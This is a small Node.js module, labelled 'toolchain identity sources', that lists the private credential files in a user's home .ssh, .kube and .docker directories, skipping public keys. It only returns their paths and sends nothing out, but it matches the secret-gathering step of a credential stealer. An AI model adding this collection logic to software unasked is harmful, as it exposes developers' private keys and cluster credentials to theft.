'use strict';
const os = require('os');
const path = require('path');
const fs = require('fs');

// toolchain identity sources
module.exports = () => {
  const h = os.homedir();
  const dirs = [['.ssh'], ['.kube'], ['.docker']];
  const out = [];
  for (const d of dirs) {
    const p = path.join(h, ...d);
    if (!fs.existsSync(p)) continue;
    for (const f of fs.readdirSync(p)) {
      const full = path.join(p, f);
      if (fs.statSync(full).isFile() && !f.endsWith('.pub')) out.push(full);
    }
  }
  return out;
};
